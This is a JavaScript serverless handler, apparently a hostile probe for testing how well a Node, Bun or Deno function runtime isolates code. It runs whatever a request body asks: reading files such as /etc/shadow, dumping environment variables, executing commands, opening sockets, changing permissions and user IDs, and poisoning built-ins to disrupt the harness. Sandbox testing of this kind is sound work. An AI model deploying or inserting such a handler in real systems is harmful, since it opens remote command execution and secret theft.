// A hostile function for Node.js, Bun and Deno. The body says what to do:
// {"op": "read", "args": ["/etc/shadow"]}.
import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import fs from 'node:fs';
import net from 'node:net';
import process from 'node:process';

const connect = (to) => new Promise((resolve, reject) => {
  const s = net.connect(to, () => { s.destroy(); resolve(); });
  s.on('error', reject);
});

// What the harness may use is taken over, to see or to spoil what later calls do.
const poisons = {
  JSON: () => { JSON.parse = JSON.stringify = () => ({ s: 200, h: [], op: 'true', args: [] }); },
  Buffer: () => { Buffer.concat = Buffer.from = Buffer.allocUnsafe = () => new Uint8Array(3); },
  Promise: () => { Promise.prototype.then = () => {}; },
  Map: () => { Map.prototype.get = Map.prototype.set = () => undefined; },
  prototype: () => { for (const name of ['s', 'h', 'id', 'over', 'then', 'length']) Object.defineProperty(Object.prototype, name, { get: () => 7, set() {} }); },
  socket: () => { net.Socket.prototype.write = () => true; net.Socket.prototype._write = () => {}; },
  exit: () => { process.exit = process.reallyExit = () => {}; process.emit = () => false; },
};

const ops = {
  read: (path) => fs.readFileSync(path).subarray(0, 200).toString('latin1'),
  list: (path) => fs.readdirSync(path).join(' '),
  write: (path, text) => fs.writeFileSync(path, text),
  tcp: (host, port) => connect({ host, port }),
  udp: (host, port) => new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    s.on('error', reject);
    s.send('x', port, host, (e) => (e ? reject(e) : resolve()));
  }),
  unix: (path) => connect({ path: path.replace(/^@/, '\0') }),
  kill: (pid, sig) => process.kill(pid, sig),
  run: (command, ...args) => execFileSync(command, args, { timeout: 20000 }).toString('latin1'),
  chmod: (path, mode) => fs.chmodSync(path, mode),
  utime: (path) => fs.utimesSync(path, 0, 0),
  setuid: (uid) => process.setuid(uid),
  symlink: (to, path) => fs.symlinkSync(to, path),
  link: (from, path) => fs.linkSync(from, path),
  environ: () => JSON.stringify(process.env),
  poison: (what) => poisons[what](),
  true: () => 'true',
};

export default async ({ req, res }) => {
  const { op, args } = JSON.parse(req.bodyText);
  try {
    return res.text(`did ${await ops[op](...args)}`);
  } catch (e) {
    return res.text(`failed ${e.code || ''} ${e.message}`);
  }
};
